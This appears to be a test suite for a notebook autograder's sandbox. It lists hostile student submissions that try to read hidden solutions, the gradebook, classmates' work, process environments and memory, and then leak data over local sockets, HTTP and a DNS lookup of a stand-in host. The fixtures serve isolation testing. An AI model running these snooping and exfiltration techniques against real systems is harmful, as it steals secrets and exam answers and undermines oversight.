# ruff: noqa: E501 (what students write stands here as they wrote it)
"""Looking for what no student may see, and carrying it out.

The answers are right, so they earn their points: what counts is that no secret gets anywhere.
"""

from case import Group

CASES = Group("spying", may=("suspicious",), seconds=12.0)


def own(name, source, **more):
    CASES.answers(name, own=[("given", source)], **more)


def softmax(name, before, inside, after="", earns=None, **more):
    """A right softmax that does something with its argument, and a cell at the end of all."""
    source = f"""
{before}

def softmax(scores):
{inside}
    powers = np.exp(scores - scores.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)
"""
    last = [("describe_hidden", after)] if after else []
    CASES.answers(name, earns, softmax=source, own=last, **more)


# ---------------------------------------------------------------- what lies about
LOOK = """
import os
def show(path):
    try:
        with open(path, errors="replace") as file: print(path, file.read(200_000))
    except OSError as error: print(error)
"""
own("source", LOOK + "show('@ROOT@/source/small/small.ipynb')\nshow('source/small/small.ipynb')")
own("source by its neighbours", LOOK + """
for path in ("..", "../..", "../../..", "../../../source/small", "@ROOT@", "@ROOT@/source"):
    try: print(path, os.listdir(path))
    except OSError as error: print(error)
show("../../../source/small/small.ipynb")
show("@ROOT@/for_graders.txt")
""")  # fmt: skip
own("mistake bank", LOOK + """
import sys
show("@ROOT@/source/small/mistakes/__init__.py")
sys.path.insert(0, "@ROOT@/source/small")
try: import mistakes; print(vars(mistakes))
except ImportError as error: print(error)
""")  # fmt: skip
own("whole disk", """
    import os
    for top in ("/", os.getcwd(), os.path.expanduser("~"), "/tmp", "/home", "/root", "/srv", "/mnt", "/run", "/var"):
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "site-packages", "dev")]
            if folder.count("/") > 7: folders[:] = []
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.getsize(path) < 500_000:
                        text = open(path, errors="replace").read()
                        if any(word in text for word in ("HIDDEN_", "SOLUTION_", "BANK_", "TREE_", "CLASSMATE_", "BOOK_")):
                            print(path, text)
                except OSError: pass
    """, may=("suspicious", "timeout"))  # fmt: skip
own("gradebook", """
    import sqlite3
    try:
        book = sqlite3.connect("file:@ROOT@/gradebook.db?mode=ro", uri=True)
        for table in ("source_cell", "comment", "student", "grade"):
            print(book.execute(f"select * from {table}").fetchall())
    except sqlite3.Error as error: print(error)
    """)  # fmt: skip
own("gradebook through nbgrader", """
    import sys
    sys.modules.setdefault("rfc3987_syntax", None)  # 2.5 s to import, and time is short here
    try:
        from nbgrader.api import Gradebook
        with Gradebook("sqlite:///@ROOT@/gradebook.db") as book:
            print([cell.source for cell in book.find_notebook("small", "small").source_cells])
    except Exception as error: print(type(error))
    """)  # fmt: skip
own("classmates", LOOK + """
import glob
for path in glob.glob("@ROOT@/submitted/*/*/*"): show(path)
show("@ROOT@/submitted/sentinel_0/small/small.ipynb")
""")  # fmt: skip
own("results of classmates", LOOK + """
import glob
for top in ("autograded", "feedback", ".chainrule", "release"):
    for path in glob.glob(f"@ROOT@/{top}/**/*", recursive=True): show(path)
show("@ROOT@/grades.csv")
""")  # fmt: skip
own("environment", """
    import os
    print(os.environ)
    %env
    """)  # fmt: skip
own("environments of all processes", LOOK + """
for pid in ("self", *map(str, range(400)), os.getppid()):
    for name in ("environ", "cmdline", "maps", "cwd", "root", "mounts", "mountinfo"):
        path = f"/proc/{pid}/{name}"
        if os.path.exists(path): show(path)
        try: print(os.readlink(path), os.listdir(path))
        except OSError: pass
""")  # fmt: skip
own("other processes", """
    import subprocess
    for command in ("ps auxeww", "ls -la /proc/*/fd", "cat /proc/*/environ", "env", "printenv", "id", "mount", "df"):
        done = subprocess.run(command, shell=True, capture_output=True, text=True, errors="replace")
        print(done.stdout, done.stderr)
    """)  # fmt: skip
own("memory of other processes", """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), 1, 2, os.getpid() - 1):
        print("attach", libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
        buffer = ctypes.create_string_buffer(4096)
        print("read", libc.process_vm_readv(pid, buffer, 1, buffer, 1, 0))
        try: print(open(f"/proc/{pid}/mem", "rb").read(10))
        except OSError as error: print(error)
    """)  # fmt: skip
own("memory of its own process", """
    import gc, sys
    def has(text): return any(word in text for word in ("HIDDEN_", "SOLUTION_", "BANK_", "ENVIRON_", "CLASSMATE_", "BOOK_", "TREE_"))
    for one in gc.get_objects():
        for value in (list(one.values()) if type(one) is dict else list(one) if type(one) in (list, tuple) else ()):
            if type(value) is str and has(value): print(value)
            if type(value) is bytes and has(value.decode("latin-1")): print(value)
    for name, module in list(sys.modules.items()):
        for key, value in list(vars(module).items()):
            if type(value) is str and has(value): print(name, key, value)
    """, may=("suspicious", "timeout"))  # fmt: skip
own("history", """
    print(In, Out, _ih, _oh)
    %history -g -n
    %recall
    print(get_ipython().history_manager.get_tail(100))
    """)  # fmt: skip
own("the worker's objects", """
    import gc, sys
    from pprint import pprint
    shell = get_ipython()
    pprint(vars(shell.student) if hasattr(shell, "student") else None)
    for name, module in list(sys.modules.items()):
        if name.startswith("chainrule.grading"): print(name, {k: repr(v)[:300] for k, v in vars(module).items()})
    """)  # fmt: skip
own("git", """
    import subprocess
    for where in ("@ROOT@", ".", "/"):
        done = subprocess.run(["git", "-C", where, "log", "-p", "-3"], capture_output=True, text=True) if __import__("shutil").which("git") else None
        print(done and done.stdout)
    """)  # fmt: skip
own("links into the course", """
    import os
    for target in ("@ROOT@", "@ROOT@/source/small/small.ipynb", "/proc/1/root", "/proc/1/cwd"):
        try:
            os.symlink(target, "way")
            print(os.listdir("way") if os.path.isdir("way") else open("way").read())
        except OSError as error: print(error)
        finally:
            if os.path.islink("way"): os.unlink("way")
    """)  # fmt: skip
own("open descriptors", """
    import os, stat
    for fd in range(256):
        try: info = os.fstat(fd)
        except OSError: continue
        print(fd, stat.filemode(info.st_mode))
        if stat.S_ISREG(info.st_mode): print(os.pread(fd, 100_000, 0))
        if stat.S_ISDIR(info.st_mode): print(os.listdir(fd))
    """)  # fmt: skip
own("devices", LOOK + """
for path in ("/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/dev/kmsg", "/proc/kcore", "/dev/tty", "/sys/kernel"):
    try: print(path, os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    except OSError as error: print(error)
""")  # fmt: skip
own("keys of the kernel", """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(1000)
    print(libc.syscall(250, 6, -3, buffer, 1000), buffer.value, libc.syscall(250, 11, -5, buffer, 1000))
    """)  # fmt: skip

# ---------------------------------------------------------------- hidden inputs
softmax("printed", "", "    print(scores, scores.tolist())")
softmax("printed otherwise", "import sys, os", """
    sys.__stdout__ and sys.__stdout__.write(str(scores.tolist()))
    os.write(1, str(scores.tolist()).encode())
    os.write(2, str(scores.tolist()).encode())
    display(scores)
    os.system(f"echo {scores.tolist()[0][0]}")""")  # fmt: skip
softmax("as a warning", "import warnings, logging", """
    warnings.warn(str(scores.tolist()))
    logging.warning(str(scores.tolist()))""")  # fmt: skip
softmax("as an error", "", """
    if scores.max() > 1000 or scores.shape == (3, 1): raise ValueError(str(scores.tolist()))""",
    earns={"softmax": 4.0})  # fmt: skip
softmax("as an error's name", "", """
    if scores.max() > 1000: raise type(f"E{scores.tolist()[0][0]}", (AssertionError,), {})(scores.tolist())""",
    earns={"softmax": 4.0})  # fmt: skip
softmax("as an error's notes", "", """
    if scores.max() > 1000:
        error = KeyError(scores.tolist())
        error.add_note(str(scores.tolist()))
        raise error from ValueError(str(scores.tolist()))""",
    earns={"softmax": 4.0})  # fmt: skip
softmax("as the name of a type", "", """
    if scores.max() > 1000: return type(f"T{scores.tolist()[0][0]}", (), {"__repr__": lambda s: str(scores.tolist())})()""",
    earns={"softmax": 4.0})  # fmt: skip
CASES.answers(
    "as the answer itself",  # the check's own error would quote it
    {"describe": 4.0},
    describe="""
    def describe(X):
        if len(X) == 3: return {str(X.tolist()): X, "mean": str(X.tolist()), "range": X.tolist(), "count": X}
        return {"mean": X.mean(axis=0), "range": np.ptp(X, axis=0), "count": len(X)}
    """,
)
CASES.answers(
    "as a gradient's error",
    {"tanh": 5 + 5 * 6 / 8},
    tanh="""
    class Tanh(Operation):
        def _output(self):
            if abs(self.input_).max() > 1000: raise ValueError(f"saw {self.input_.tolist()}")
            return np.tanh(self.input_)

        def _input_grad(self, output_grad):
            return output_grad * (1 - self.output**2)
    """,
)
softmax("kept for the last cell", "seen = []", "    seen.append(scores.tolist())", "print(seen)")
softmax(
    "kept in builtins",
    "import builtins\nbuiltins.seen = []",
    "    builtins.seen.append(scores.tolist())",
    "print(builtins.seen)",
)
softmax("kept in a file", "", """
    with open("seen.txt", "a") as file: file.write(str(scores.tolist()))""",
    "print(open('seen.txt').read())")  # fmt: skip
softmax("kept in /tmp and shared memory", "from pathlib import Path", """
    for place in ("/tmp", "/dev/shm", "/var/tmp", Path.home()):
        try: Path(place, "seen.txt").open("a").write(str(scores.tolist()))
        except OSError: pass""",
    "for place in ('/tmp', '/dev/shm', '/var/tmp', Path.home()):\n    p = Path(place, 'seen.txt')\n    print(p.read_text() if p.exists() else 0)")  # fmt: skip
softmax("kept in a pipe", "import os\nout, into = os.pipe()\nos.set_blocking(out, False)", """
    os.write(into, str(scores.tolist()).encode())""",
    "try: print(os.read(out, 60000))\nexcept OSError as error: print(error)")  # fmt: skip
softmax("kept by another process", """
import socket, os
ours, theirs = socket.socketpair()
pid = os.fork()
if pid == 0:
    kept = b""
    while True:
        got = theirs.recv(60000)
        if got == b"give": theirs.send(kept + b"!")
        else: kept += got
""", "    ours.send(str(scores.tolist()).encode())",
    "ours.settimeout(1)\nours.send(b'give')\nprint(ours.recv(60000))\nos.kill(pid, 9)",
    may=("suspicious", "timeout", "died"))  # fmt: skip
softmax("kept in shared memory of processes", "import mmap\nshared = mmap.mmap(-1, 100_000)", """
    shared.write(str(scores.tolist()).encode())""", "print(shared[:3000])")  # fmt: skip
softmax("kept by a thread that prints later", "import threading, time", """
    text = str(scores.tolist())
    threading.Thread(target=lambda: (time.sleep(0.5), print(text)), daemon=True).start()""",
    "time.sleep(1)")  # fmt: skip
softmax("printed when forgotten", """
import atexit
class Late:
    def __init__(self, text): self.text = text
    def __del__(self): print(self.text)
""", """
    atexit.register(print, scores.tolist())
    globals().setdefault("late", []).append(Late(str(scores.tolist())))""",
    "late.clear()")  # fmt: skip
softmax("waits for the hidden check in a fork", """
import mmap, os, time
shared = mmap.mmap(-1, 100_000)
""", "    shared[:40] = str(scores.tolist()).encode()[:40].ljust(40)",
    "for _ in range(4):\n    time.sleep(0.2)\n    print(shared[:40])")  # fmt: skip
softmax("in the output of an earlier display", "handle = display('nothing yet', display_id=True)", """
    if handle: handle.update(scores.tolist())""", "print(1)")  # fmt: skip
CASES.answers(
    "the check's function kept",
    own=[
        (
            "describe_hidden",
            "for f in kept:\n    try: print(f, f(2.0))\n    except Exception as e: print(e)",
        )
    ],
    slope="""
    kept = []

    def slope(f, x):
        kept.append(f)
        print(f, x, f(x), getattr(f, "__name__", ""))
        return (f(x + 1e-5) - f(x - 1e-5)) / 2e-5
    """,
)
softmax("frames", "import inspect, sys", """
    for one in inspect.stack(): print(one.filename, one.code_context, one.frame.f_locals.keys(), one.frame.f_globals.get("__name__"))
    print(sys._current_frames(), sys.exc_info())""")  # fmt: skip

# ---------------------------------------------------------------- ways out
own("TCP to this machine", """
    import socket, os
    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
        try:
            with socket.create_connection((host, @PORT@), timeout=0.5) as sock: sock.sendall(b"LEAK")
        except OSError as error: print(error)
    """)  # fmt: skip
softmax("hidden inputs over TCP", "import socket", """
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=0.2) as sock: sock.sendall(str(scores.tolist()).encode())
    except OSError as error: print(error)""")  # fmt: skip
own("UDP and names", """
    import socket
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LEAK", ("127.0.0.1", @PORT@))
    except OSError as error: print(error)
    try: print(socket.getaddrinfo("leak.example.org", 80))
    except OSError as error: print(error)
    """)  # fmt: skip
own("abstract socket", """
    import socket
    try:
        sock = socket.socket(socket.AF_UNIX)
        sock.connect("\\0hostile-@PORT@")
        sock.sendall(b"LEAK")
    except OSError as error: print(error)
    """)  # fmt: skip
own("socket in the file system", """
    import socket
    try:
        sock = socket.socket(socket.AF_UNIX)
        sock.connect("@DROP@/socket")
        sock.sendall(b"LEAK")
    except OSError as error: print(error)
    """)  # fmt: skip
own("raw, netlink and packet sockets", """
    import socket
    for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (40, 1)):
        try: print(socket.socket(family, kind))
        except OSError as error: print(error)
    """)  # fmt: skip
own("the web", """
    import urllib.request
    try: print(urllib.request.urlopen("http://127.0.0.1:@PORT@/LEAK", timeout=0.5).read())
    except OSError as error: print(error)
    """)  # fmt: skip
